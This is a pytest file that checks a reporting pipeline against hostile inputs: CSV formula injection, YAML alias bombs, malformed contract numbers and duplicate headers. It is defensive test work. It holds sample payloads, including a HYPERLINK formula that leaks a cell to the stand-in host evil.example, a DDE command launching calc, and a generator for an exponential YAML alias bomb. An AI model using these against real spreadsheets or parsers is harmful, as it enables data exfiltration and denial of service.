"""Hostile inputs from an adversarial review: formula injection into the published CSVs, YAML alias bombs and
odd numbers in customer and contract files, and a CSV/XLSX/Parquet header that names a column twice."""

import csv
import datetime as dt
import time
from decimal import Decimal
from pathlib import Path

import openpyxl
import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml

from reports.inputs.parsing import _decimal_expr
from reports.inputs.readers import InputFileError, read_text_frame
from reports.publishing.csv_files import write_csv_atomically
from schemas.contract import ContractError, load_contract, load_customer_settings
from schemas.values import MONEY, QUANTITY
from tests.support.builders import (
    CONTRACT,
    INVOICE_HEADER,
    ROSTER_HEADER,
    USAGE_HEADER,
    charge_row,
    drop,
    roster_row,
    usage_row,
    write_csv,
    write_customer,
    write_xlsx,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1)"


# ----------------------------------------------------------------------------------------------------------------
# 1. Formula injection into the published CSVs
# ----------------------------------------------------------------------------------------------------------------
def published_cells(path: Path) -> list[dict[str, str]]:
    """The cells exactly as a spreadsheet receives them."""
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize(
    "value, published",
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        (AT_SUM, "'" + AT_SUM),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=", "'="),
        # a CR inside a cell is quoted: unquoted, a spreadsheet ends the row there and starts the next with "=1+1"
        ("note\r=1+1", "note\r=1+1"),
        ("note\n=1+1", "note\n=1+1"),
        # values a spreadsheet reads as numbers, never as formulas, stay as the sender wrote them
        ("-5", "-5"),
        ("-12.50", "-12.50"),
        ("+447700900123", "+447700900123"),
        # harmless text stays as it is
        ("Monthly plan", "Monthly plan"),
        ("a=b", "a=b"),
        ("'=already quoted", "'=already quoted"),
        ("", ""),
    ],
)
def test_quarantine_csv_cells_that_a_spreadsheet_would_run_get_a_quote(tmp_path, value, published):
    frame = pl.DataFrame(
        {
            "file": ["invoices/inv-1.csv"],
            "row": [7],
            "column": ["charge_type"],
            "value": [value],
            "reason": ["not one of the allowed values"],
        }
    )
    path = tmp_path / "quarantine.csv"
    write_csv_atomically(path, frame)
    assert published_cells(path) == [
        {
            "file": "invoices/inv-1.csv",
            "row": "7",
            "column": "charge_type",
            "value": published,
            "reason": "not one of the allowed values",
        }
    ]


def test_amount_columns_and_e164_numbers_are_left_alone(tmp_path):
    from schemas.outputs import SAVINGS_CSV_COLUMNS

    row = {c: "x" for c in SAVINGS_CSV_COLUMNS} | {
        "msisdn": "+447700900123",
        "employee_id": AT_SUM,
        "current_plan_code": DDE,
        "feature_code": "-FEAT",
        "monthly_savings": "-5.00",
        "annual_savings": "-60.00",
        "rationale": HYPERLINK,
    }
    frame = pl.DataFrame([row], schema={c: pl.String for c in SAVINGS_CSV_COLUMNS})
    path = tmp_path / "savings.csv"
    write_csv_atomically(path, frame, numeric_columns=("monthly_savings", "annual_savings"))
    [cells] = published_cells(path)
    assert cells["monthly_savings"] == "-5.00" and cells["annual_savings"] == "-60.00"
    assert cells["msisdn"] == "+447700900123"
    assert cells["employee_id"] == "'" + AT_SUM
    assert cells["current_plan_code"] == "'" + DDE
    assert cells["feature_code"] == "'-FEAT"
    assert cells["rationale"] == "'" + HYPERLINK


def test_msisdn_that_is_not_e164_is_quoted_like_any_text(tmp_path):
    frame = pl.DataFrame({"msisdn": ["+447700900123", "+1 (415) 555-0100", "+44=1"]})
    path = tmp_path / "x.csv"
    write_csv_atomically(path, frame)
    assert [r["msisdn"] for r in published_cells(path)] == ["+447700900123", "'+1 (415) 555-0100", "'+44=1"]


def write_quoted_csv(path: Path, header: list[str], rows: list[list[object]]) -> None:
    """builders.write_csv does not double quotes inside a quoted cell; a carrier's export would."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows([header, *rows])


@pytest.fixture
def hostile_root(tmp_path):
    """A customer-month whose roster, invoice and usage carry formulas in text fields."""
    write_customer(tmp_path, "acme")
    folder = drop(tmp_path, "acme", "2026-06")
    write_xlsx(
        folder / "roster.xlsx",
        ROSTER_HEADER,
        [
            roster_row("+14155550100", AT_SUM, department=HYPERLINK),
            roster_row("+14155550101", "E2"),
        ],
    )
    write_quoted_csv(
        folder / "invoices" / "inv-1.csv",
        INVOICE_HEADER,
        [
            charge_row("+14155550100", amount="36.00", total="75.00", invoice_number=DDE, account_number=HYPERLINK),
            charge_row(
                "+14155550101",
                charge_type=HYPERLINK,
                amount="34.00",
                total="75.00",
                invoice_number=DDE,
                account_number=HYPERLINK,
            ),
            charge_row(
                None, "credit", "-5.00", "75.00", charge_code="CR", invoice_number=DDE, account_number=HYPERLINK
            ),
        ],
    )
    write_csv(folder / "usage" / "u.csv", USAGE_HEADER, [usage_row("2026-06-01", "+14155550100", voice="-5")])
    return tmp_path


def test_published_findings_and_quarantine_carry_no_live_formula(hostile_root):
    from tests.assets.test_assets import run_month

    assert run_month(hostile_root).success
    published = hostile_root / "published" / "acme" / "2026-06"
    findings = published_cells(published / "findings.csv")
    plan = next(f for f in findings if f["finding_type"] == "PLAN_RATE_MISMATCH")
    assert plan["invoice_number"] == "'" + DDE
    assert plan["account_number"] == "'" + HYPERLINK
    assert plan["employee_id"] == "'" + AT_SUM
    assert plan["msisdn"] == "+14155550100"
    assert plan["disputed_amount"] == "2.00"
    quarantine = {(r["file"], r["column"]): r["value"] for r in published_cells(published / "quarantine.csv")}
    assert quarantine[("invoices/inv-1.csv", "charge_type")] == "'" + HYPERLINK
    assert quarantine[("usage/u.csv", "voice_minutes")] == "-5"  # a negative number stays a number
    for name in ("findings.csv", "quarantine.csv"):
        for row in published_cells(published / name):
            for column, cell in row.items():
                assert not cell or cell[0] not in "=+-@\t\r" or _is_number(cell), (name, column, cell)


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


def test_workbook_writes_formula_text_as_a_string_cell(tmp_path):
    """report.xlsx is safe without the quote: openpyxl is told the cell is a string, so Excel never evaluates it."""
    from tests.unit.test_report_workbook import sample_report, written

    report = sample_report()
    evil = report.findings.head(2).with_columns(
        pl.lit(HYPERLINK).alias("evidence"), pl.lit(DDE).alias("invoice_number"), pl.lit(AT_SUM).alias("employee_id")
    )
    wb = openpyxl.load_workbook(written(sample_report(findings=evil), tmp_path))
    ws = wb["Findings"]
    header = [cell.value for cell in ws[1]]
    for column, text in (("Evidence", HYPERLINK), ("Invoice", DDE), ("Employee", AT_SUM)):
        index = next(i for i, name in enumerate(header) if name and name.startswith(column))
        cell = ws.cell(row=2, column=index + 1)
        assert cell.value == text
        assert cell.data_type == "s", (column, cell.data_type)


# ----------------------------------------------------------------------------------------------------------------
# 2. YAML alias bombs and oversized files
# ----------------------------------------------------------------------------------------------------------------
def alias_bomb(levels: int = 9) -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for level in range(1, levels):
        previous = ",".join([f"*a{level - 1}"] * 9)
        lines.append(f"a{level}: &a{level} [{previous}]")
    lines.append(f"name: *a{levels - 1}")
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize(
    "loader, name", [(load_contract, "northwind-mobile.yaml"), (load_customer_settings, "customer.yaml")]
)
def test_alias_bomb_is_refused_fast_with_the_file_name(tmp_path, loader, name):
    path = tmp_path / name
    path.write_text(alias_bomb())
    assert path.stat().st_size < 2048
    started = time.perf_counter()
    with pytest.raises(ContractError) as raised:
        loader(path, f"customers/acme/{name}")
    assert time.perf_counter() - started < 0.5
    message = str(raised.value)
    assert message.startswith(f"customers/acme/{name}: ") and "\n" not in message
    assert "anchor" in message and "line 1" in message


def test_an_anchored_mapping_merged_elsewhere_is_refused(tmp_path):
    contract = yaml.safe_dump(CONTRACT, sort_keys=False)
    text = contract + "defaults: &defaults {monthly_fee: 1}\nmore: {<<: *defaults}\n"
    path = tmp_path / "northwind-mobile.yaml"
    path.write_text(text)
    with pytest.raises(ContractError, match=r"northwind-mobile.yaml: .*anchor"):
        load_contract(path, "northwind-mobile.yaml")


def test_an_anchored_number_used_again_is_still_accepted(tmp_path):
    """The sample generator writes repeated rates as `&id001 0.00` ... `*id001`: one value, no amplification."""
    text = yaml.safe_dump(CONTRACT, sort_keys=False)
    text = text.replace("overage_voice_per_min: 0.0\n", "overage_voice_per_min: &id001 0.00\n", 1)
    text = text.replace("overage_voice_per_min: 0\n", "overage_voice_per_min: *id001\n", 1)
    assert "*id001" in text
    path = tmp_path / "northwind-mobile.yaml"
    path.write_text(text)
    contract = load_contract(path, "northwind-mobile.yaml")
    assert [p.overage_voice_per_min for p in contract.plans] == [Decimal("0"), Decimal("0")]


def test_file_over_the_size_limit_is_refused_before_parsing(tmp_path):
    path = tmp_path / "customer.yaml"
    path.write_text("name: Acme\nregion: US\ncurrency: USD\n" + "# padding\n" * 120_000)
    assert path.stat().st_size > 1024 * 1024
    started = time.perf_counter()
    with pytest.raises(ContractError) as raised:
        load_customer_settings(path, "customers/acme/customer.yaml")
    assert time.perf_counter() - started < 0.5
    assert str(raised.value).startswith("customers/acme/customer.yaml: ") and "1 MiB" in str(raised.value)


def test_deeply_nested_yaml_is_refused_with_a_message(tmp_path):
    path = tmp_path / "customer.yaml"
    path.write_text("name: " + "[" * 100_000 + "]" * 100_000 + "\n")
    with pytest.raises(ContractError, match=r"^customers/acme/customer.yaml: .*nested"):
        load_customer_settings(path, "customers/acme/customer.yaml")


# ----------------------------------------------------------------------------------------------------------------
# 3. Contract numbers follow the data's decimal rules and range
# ----------------------------------------------------------------------------------------------------------------
def contract_file(tmp_path: Path, replace: str, by: str) -> Path:
    text = yaml.safe_dump(CONTRACT, sort_keys=False)
    assert replace in text, replace
    path = tmp_path / "northwind-mobile.yaml"
    path.write_text(text.replace(replace, by, 1))
    return path


@pytest.mark.parametrize(
    "written, field, words",
    [
        ("'19,99'", "plans.0.monthly_fee", "'19,99' is not a decimal number"),
        ("19,99", "plans.0.monthly_fee", "'19,99' is not a decimal number"),
        ("1e15", "plans.0.monthly_fee", "'1e15' is too large"),
        ("100000000000000", "plans.0.monthly_fee", "'100000000000000' is too large"),
        ("1e30", "plans.0.monthly_fee", "'1e30' is too large"),
        ("1e999999999", "plans.0.monthly_fee", "too large"),
        (".nan", "plans.0.monthly_fee", "'.nan' is not a decimal number"),
        (".inf", "plans.0.monthly_fee", "'.inf' is not a decimal number"),
        ("1_000", "plans.0.monthly_fee", "'1_000' is not a decimal number"),
        ("0x10", "plans.0.monthly_fee", "'0x10' is not a decimal number"),
        ("1:30", "plans.0.monthly_fee", "'1:30' is not a decimal number"),
        ("'12 EUR'", "plans.0.monthly_fee", "'12 EUR' is not a decimal number"),
        ("true", "plans.0.monthly_fee", "must be a number"),
        ("[1]", "plans.0.monthly_fee", "must be a number"),
        ("-1", "plans.0.monthly_fee", "greater than or equal to 0"),
    ],
)
def test_bad_monthly_fee_names_file_field_and_value(tmp_path, written, field, words):
    path = contract_file(tmp_path, "monthly_fee: 40.0\n", f"monthly_fee: {written}\n")
    with pytest.raises(ContractError) as raised:
        load_contract(path, "customers/acme/contracts/northwind-mobile.yaml")
    message = str(raised.value)
    assert message.startswith(f"customers/acme/contracts/northwind-mobile.yaml: field '{field}': "), message
    assert words in message and "\n" not in message
    assert "Value error" not in message


@pytest.mark.parametrize(
    "replace, by, field",
    [
        ("data_mb: 5120\n", "data_mb: 1e12\n", "plans.0.data_mb"),  # allowances are quantities: below 10^12
        ("overage_data_per_mb: 0.015\n", "overage_data_per_mb: '0,01'\n", "plans.0.overage_data_per_mb"),
        ("discount_pct: 15\n", "discount_pct: 1e30\n", "discount_pct"),
        ("voice_per_min: 0.25\n", "voice_per_min: .inf\n", "roaming.voice_per_min"),
        ("monthly_fee: 10.0\n", "monthly_fee: 1e14\n", "features.0.monthly_fee"),
    ],
)
def test_every_contract_number_is_checked(tmp_path, replace, by, field):
    path = contract_file(tmp_path, replace, by)
    with pytest.raises(ContractError, match=rf"^northwind-mobile.yaml: field '{field}': '"):
        load_contract(path, "northwind-mobile.yaml")


@pytest.mark.parametrize(
    "written, stored",
    [
        ("19.99", "19.99"),  # a YAML float, never through binary floating point
        ("0.1", "0.1"),
        ("'1,234.50'", "1234.50"),  # a comma as thousands separator, as in the data
        ("1,234.50", "1234.50"),
        ("1e3", "1000"),
        ("1.5E+2", "150"),
        ("'  12.5 '", "12.5"),
        ("99999999999999.9999", "99999999999999.9999"),  # the largest amount DECIMAL(18, 4) holds
        ("1.00005", "1.0000"),  # more places than DECIMAL(18, 4): rounded half-even, as the data parser does
        ("1.00015", "1.0002"),
        ("!!float '40'", "40"),
        ("017", "17"),  # decimal, as in the data (YAML 1.1 would read octal 15)
    ],
)
def test_good_monthly_fee_is_the_exact_decimal(tmp_path, written, stored):
    path = contract_file(tmp_path, "monthly_fee: 40.0\n", f"monthly_fee: {written}\n")
    fee = load_contract(path, "northwind-mobile.yaml").plans[0].monthly_fee
    assert fee == Decimal(stored) and str(fee) == stored


def test_a_long_bad_value_is_shortened_and_many_problems_are_counted(tmp_path):
    plans = "\n".join(f"- code: P{i}\n  monthly_fee: '{'9' * 5000}x'" for i in range(50))
    path = tmp_path / "northwind-mobile.yaml"
    path.write_text(f"carrier: northwind-mobile\nroaming: {{voice_per_min: 0, data_per_mb: 0}}\nplans:\n{plans}\n")
    with pytest.raises(ContractError) as raised:
        load_contract(path, "northwind-mobile.yaml")
    message = str(raised.value)
    assert "field 'plans.0.monthly_fee': '9999" in message and "...' is not a decimal number" in message
    assert message.endswith("; and 40 more") and len(message) < 2000


def test_rates_keep_six_places_like_the_data(tmp_path):
    path = contract_file(tmp_path, "overage_data_per_mb: 0.015\n", "overage_data_per_mb: 0.0000125\n")
    assert load_contract(path, "northwind-mobile.yaml").plans[0].overage_data_per_mb == Decimal("0.000012")


NUMBER_TEXTS = [
    "19.99",
    "19,99",
    "1,234.50",
    "1,2345",
    "12,34",
    "1e15",
    "1e14",
    "1e30",
    "99999999999999.9999",
    "99999999999999.99995",
    "100000000000000",
    "999999999999.999999",
    "1000000000000",
    "1.00005",
    "1.00015",
    "1.00025",
    "1.0000125",
    "0.0000005",
    "0.0000015",
    ".5",
    "5.",
    "+5",
    "1e-20",
    "1E2",
    "1_000",
    "0x10",
    "nan",
    "inf",
    "Infinity",
    "1 000",
    "",
    "12,345,678.5",
    "0",
    "0,015",
    "\u0661\u0662",
    "-0",
    "-1.5",
    "1.5\n",
]


@pytest.mark.parametrize("kind, dtype", [("money", MONEY), ("quantity", QUANTITY)])
def test_contract_numbers_follow_the_data_parser(kind, dtype):
    """Every text the invoice/usage parser accepts, the contract accepts with the same value, and vice versa."""
    from schemas.contract import contract_decimal

    cells = pl.DataFrame({"v": NUMBER_TEXTS}).with_columns(pl.col("v").str.strip_chars())  # as parse_table does
    data = cells.select(_decimal_expr("v", dtype).alias("d"))["d"].to_list()
    for text, expected in zip(NUMBER_TEXTS, data):
        try:
            got = contract_decimal(text, kind)
        except ValueError:
            got = None
        assert got == expected, (text, got, expected)


def test_sample_data_contracts_still_load(tmp_path):
    """The generated sample (`tem sample-data`) repeats rates as YAML anchors on numbers: it must still load."""
    from reports.sample_generator import write_sample_data

    root = tmp_path / "sample"
    write_sample_data(root, expected_dir=tmp_path / "expected")
    contracts = sorted((root / "customers").glob("*/contracts/*.yaml"))
    assert len(contracts) >= 3
    assert any("*id0" in path.read_text() for path in contracts)
    for path in contracts:
        contract = load_contract(path, str(path.relative_to(root)))
        assert contract.plans and all(p.monthly_fee > 0 for p in contract.plans)
    for path in sorted((root / "customers").glob("*/customer.yaml")):
        load_customer_settings(path, str(path.relative_to(root)))


# ----------------------------------------------------------------------------------------------------------------
# 4. A header that names the same column twice
# ----------------------------------------------------------------------------------------------------------------
REQUIRED = ["invoice_number", "amount"]


def test_csv_exact_duplicate_header_is_refused(tmp_path):
    path = write_csv(tmp_path / "inv.csv", ["invoice_number", "amount", "amount"], [["INV-1", "1.00", "2.00"]] * 56)
    with pytest.raises(InputFileError) as raised:
        read_text_frame(path, "invoices/inv.csv", REQUIRED)
    assert str(raised.value) == "invoices/inv.csv: the header names these columns more than once: amount"


def test_csv_duplicates_after_a_bom_and_blank_lines_are_refused(tmp_path):
    path = tmp_path / "inv.csv"
    path.write_bytes(b'\xef\xbb\xbf\r\n\r\ninvoice_number,Amount,amount,"amount"\r\nINV-1,1,2,3\r\n')
    with pytest.raises(InputFileError, match="more than once: amount$"):
        read_text_frame(path, "invoices/inv.csv", REQUIRED)


def test_csv_blank_header_cells_may_repeat(tmp_path):
    """Spreadsheet exports often end every line with empty columns: they are not duplicates."""
    path = tmp_path / "inv.csv"
    path.write_text("invoice_number,amount,, \nINV-1,1.00,,\n")
    frame = read_text_frame(path, "invoices/inv.csv", REQUIRED)
    assert frame.select("source_row", "invoice_number", "amount").rows() == [(2, "INV-1", "1.00")]


def test_xlsx_exact_duplicate_header_is_refused(tmp_path):
    path = write_xlsx(
        tmp_path / "inv.xlsx", ["invoice_number", "amount", "amount", None, None], [["INV-1", 1.0, 2.0, None, None]]
    )
    with pytest.raises(InputFileError) as raised:
        read_text_frame(path, "invoices/inv.xlsx", REQUIRED)
    assert str(raised.value) == "invoices/inv.xlsx: the header names these columns more than once: amount"


def test_xlsx_without_duplicates_reads_as_before(tmp_path):
    path = write_xlsx(
        tmp_path / "inv.xlsx",
        ["Invoice_Number", " amount ", None, "extra"],
        [["INV-1", 1234.5, None, dt.date(2026, 6, 1)], [None, None, None, None], ["INV-2", 40, "x", None]],
    )
    frame = read_text_frame(path, "invoices/inv.xlsx", REQUIRED)
    assert frame.select("source_row", "invoice_number", "amount", "extra").rows() == [
        (2, "INV-1", "1234.5", "2026-06-01 00:00:00"),
        (4, "INV-2", "40", None),
    ]


def test_parquet_exact_duplicate_column_is_refused(tmp_path):
    path = tmp_path / "u.parquet"
    columns = [pa.array(["INV-1"]), pa.array([1.0]), pa.array([2.0])]
    table = pa.table(columns, names=["invoice_number", "amount", "amount"])
    pq.write_table(table, path)
    with pytest.raises(InputFileError) as raised:
        read_text_frame(path, "usage/u.parquet", REQUIRED)
    assert str(raised.value) == "usage/u.parquet: the header names these columns more than once: amount"


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_unnamed_columns_never_clash_with_named_ones(tmp_path, suffix):
    """Empty header cells get placeholder names; a header cell that happens to read like one keeps its own."""
    header, row = ["invoice_number", "__unnamed__2", None, "amount", " "], ["INV-1", "a", "b", "1.00", "c"]
    if suffix == "csv":
        path = write_csv(tmp_path / "inv.csv", ["" if h is None else h for h in header], [row])
    else:
        path = write_xlsx(tmp_path / "inv.xlsx", header, [row])
    frame = read_text_frame(path, f"invoices/inv.{suffix}", REQUIRED)
    assert frame.height == 1 and len(set(frame.columns)) == frame.width == 6
    assert frame.select("invoice_number", "__unnamed__2", "amount").row(0) == ("INV-1", "a", "1.00")


def test_a_workbook_without_rows_is_an_empty_frame(tmp_path):
    path = write_xlsx(tmp_path / "inv.xlsx", [], [])
    assert read_text_frame(path, "invoices/inv.xlsx", []).height == 0
    with pytest.raises(InputFileError, match="missing required column"):
        read_text_frame(path, "invoices/inv.xlsx", REQUIRED)
